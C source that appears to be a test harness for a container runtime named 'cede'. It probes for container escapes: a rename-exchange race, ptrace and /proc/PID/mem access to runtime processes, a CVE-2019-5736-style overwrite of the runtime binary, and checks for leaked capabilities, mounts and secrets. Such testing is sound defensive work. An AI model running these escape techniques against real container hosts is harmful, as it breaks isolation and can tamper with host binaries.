/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attack exchange A B
 *	Exchanges two names for as long as it is let (a minute at most).
 * attack watch DEV:INO
 *	In a container: grabs at whatever process of the runtime comes by (those named "cede", and
 *whoever executes the file with these numbers) until it gets SIGTERM or a minute has gone. Says
 *"seen PID" for each, "HIT what PID" for each thing it got hold of, "exe ERROR" for what became of
 *writing to the runtime's file, and "end" before it ends.
 * attack gain
 *	The same for what such a process has that we have not: another root directory, directories,
 *mounts, capabilities, a filter less, and "HOSTSECRET" in its command line and environment.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t stop;

static void on_term(int signal)
{
	(void)signal;
	stop = 1;
}

static int exchange(const char *a, const char *b)
{
	while (!stop)
		(void)renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
	return 0;
}

static bool is_runtime(const char *pid)
{
	char path[300], comm[32] = "";
	int fd;

	(void)snprintf(path, sizeof(path), "/proc/%s/comm", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return false;
	if (read(fd, comm, sizeof(comm) - 1) < 0)
		comm[0] = '\0';
	(void)close(fd);
	return strcmp(comm, "cede\n") == 0;
}

/* A process only ever goes from the runtime's name to another one: who still has it now had it when
 * we got hold of something. */
static void hit(const char *what, const char *pid)
{
	if (is_runtime(pid))
		printf("HIT %s %s\n", what, pid);
}

static void grab_descriptors(const char *pid)
{
	char path[300];
	struct dirent *d;
	DIR *dir;

	(void)snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	dir = opendir(path);
	while (dir && (d = readdir(dir))) {
		int fd;

		if (d->d_name[0] == '.')
			continue;
		fd = openat(dirfd(dir), d->d_name, O_PATH | O_CLOEXEC);
		if (fd >= 0)
			hit("descriptor", pid);
		(void)close(fd);
	}
	if (dir)
		(void)closedir(dir);
}

static void grab(const char *pid)
{
	static const char *const files[] = {"root", "cwd", "mem", "ns/mnt"};
	char path[300];

	for (size_t i = 0; i < sizeof(files) / sizeof(*files); i++) {
		int fd;

		(void)snprintf(path, sizeof(path), "/proc/%s/%s", pid, files[i]);
		fd = open(path, (strcmp(files[i], "mem") == 0 ? O_RDWR : O_RDONLY) | O_CLOEXEC);
		if (fd >= 0)
			hit(files[i], pid);
		(void)close(fd);
	}
	grab_descriptors(pid);
	if (ptrace(PTRACE_SEIZE, atoi(pid), NULL, NULL) == 0)
		hit("ptrace", pid);
}

/* As init of its container, and those that were attached to. */
static void reap(void)
{
	while (waitpid(-1, NULL, WNOHANG | __WALL) > 0)
		;
}

/* CVE-2019-5736: hold the runtime's file, wait until nobody executes it, write to it. */
static void overwrite(int fd)
{
	const struct timespec ms = {.tv_nsec = 1000000};
	char path[300];
	int out = -1;

	(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; i < 3000 && !stop; i++) {
		out = open(path, O_WRONLY | O_CLOEXEC);
		if (out >= 0 || errno != ETXTBSY)
			break;
		(void)nanosleep(&ms, NULL);
		reap();
	}
	if (out >= 0 && write(out, "#!attacked\n", 11) > 0)
		printf("HIT exe -\n");
	else
		printf("exe %s\n", strerrorname_np(errno));
	(void)close(out);
}

static void grab_exe(const char *pid, unsigned long long dev, unsigned long long ino)
{
	char path[300];
	struct stat st;
	int fd;

	(void)snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0 && fstat(fd, &st) == 0 && st.st_dev == dev && st.st_ino == ino)
		overwrite(fd);
	(void)close(fd);
}

static int watch(const char *numbers)
{
	unsigned long long dev, ino;
	char last[300] = "";

	if (sscanf(numbers, "%llu:%llu", &dev, &ino) != 2)
		return 2;
	while (!stop) {
		DIR *dir = opendir("/proc");
		struct dirent *d;

		while (dir && !stop && (d = readdir(dir))) {
			if (d->d_name[0] < '0' || d->d_name[0] > '9' || atoi(d->d_name) == getpid())
				continue;
			grab_exe(d->d_name, dev, ino);
			if (!is_runtime(d->d_name))
				continue;
			if (strcmp(last, d->d_name) != 0)
				printf("seen %s\n", d->d_name);
			(void)snprintf(last, sizeof(last), "%s", d->d_name);
			grab(d->d_name);
		}
		if (dir)
			(void)closedir(dir);
		reap();
	}
	printf("end\n");
	return 0;
}

/* --- what it has not itself ---
 */

static size_t read_all(const char *pid, const char *file, char *buf, size_t size)
{
	char path[300];
	ssize_t n;
	int fd;

	(void)snprintf(path, sizeof(path), "/proc/%s/%s", pid, file);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? -1 : read(fd, buf, size - 1);
	(void)close(fd);
	buf[n > 0 ? n : 0] = '\0';
	return n > 0 ? (size_t)n : 0;
}

/* A number behind a name in /proc/PID/status; ~0: not to be had. */
static unsigned long long status_of(const char *pid, const char *name, int base)
{
	char text[4096], *at;

	if (!read_all(pid, "status", text, sizeof(text)))
		return ~0ULL;
	at = strstr(text, name);
	return at ? strtoull(at + strlen(name), NULL, base) : ~0ULL;
}

static void gain_power(const char *pid)
{
	static const char *const sets[] = {"CapPrm:", "CapBnd:"};
	unsigned long long own, theirs;

	for (size_t i = 0; i < sizeof(sets) / sizeof(*sets); i++) {
		own = status_of("self", sets[i], 16);
		theirs = status_of(pid, sets[i], 16);
		if (theirs != ~0ULL && theirs & ~own)
			hit(sets[i], pid);
	}
	if (status_of("self", "NoNewPrivs:", 10) > status_of(pid, "NoNewPrivs:", 10))
		hit("NoNewPrivs", pid);
	if (status_of("self", "Seccomp:", 10) > status_of(pid, "Seccomp:", 10))
		hit("Seccomp", pid);
}

/* Of a file in procfs only the first line counts. */
static void gain_text(const char *pid, const char *file)
{
	char own[4096], theirs[4096];

	if (!read_all("self", file, own, sizeof(own)) ||
	    !read_all(pid, file, theirs, sizeof(theirs)))
		return;
	own[strcspn(own, "\n")] = theirs[strcspn(theirs, "\n")] = '\0';
	if (strcmp(own, theirs) != 0)
		hit(file, pid);
}

static void gain_secret(const char *pid, const char *file)
{
	char text[65536];
	size_t n = read_all(pid, file, text, sizeof(text));

	if (n && memmem(text, n, "HOSTSECRET", 10))
		hit(file, pid);
}

static void gain_files(const char *pid)
{
	char path[300];
	struct stat own, st;

	(void)snprintf(path, sizeof(path), "/proc/%s/root/.", pid);
	if (stat("/", &own) == 0 && stat(path, &st) == 0 &&
	    (st.st_dev != own.st_dev || st.st_ino != own.st_ino))
		hit("root", pid);
	for (int fd = 0; fd < 64; fd++) {
		(void)snprintf(path, sizeof(path), "/proc/%s/fd/%d", pid, fd);
		if (stat(path, &st) == 0 && S_ISDIR(st.st_mode))
			hit("descriptor", pid);
	}
}

/* Until it is told to stop: whoever of the runtime comes by, has it what we have not? */
static int gain(void)
{
	char last[300] = "";

	while (!stop) {
		DIR *dir = opendir("/proc");
		struct dirent *d;

		while (dir && !stop && (d = readdir(dir))) {
			if (d->d_name[0] < '0' || d->d_name[0] > '9' || atoi(d->d_name) == getpid())
				continue;
			if (!is_runtime(d->d_name))
				continue;
			gain_files(d->d_name);
			gain_power(d->d_name);
			gain_text(d->d_name, "mountinfo");
			gain_text(d->d_name, "cgroup");
			gain_secret(d->d_name, "cmdline");
			gain_secret(d->d_name, "environ");
			if (strcmp(last, d->d_name) != 0)
				printf("seen %s\n", d->d_name);
			(void)snprintf(last, sizeof(last), "%s", d->d_name);
		}
		if (dir)
			(void)closedir(dir);
		reap();
	}
	printf("end\n");
	return 0;
}

int main(int argc, char **argv)
{
	const struct sigaction sa = {.sa_handler = on_term};

	(void)sigaction(SIGTERM, &sa, NULL);
	(void)sigaction(SIGALRM, &sa, NULL);
	(void)alarm(60);
	(void)setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 4 && strcmp(argv[1], "exchange") == 0)
		return exchange(argv[2], argv[3]);
	if (argc == 3 && strcmp(argv[1], "watch") == 0)
		return watch(argv[2]);
	if (argc == 2 && strcmp(argv[1], "gain") == 0)
		return gain();
	return 2;
}
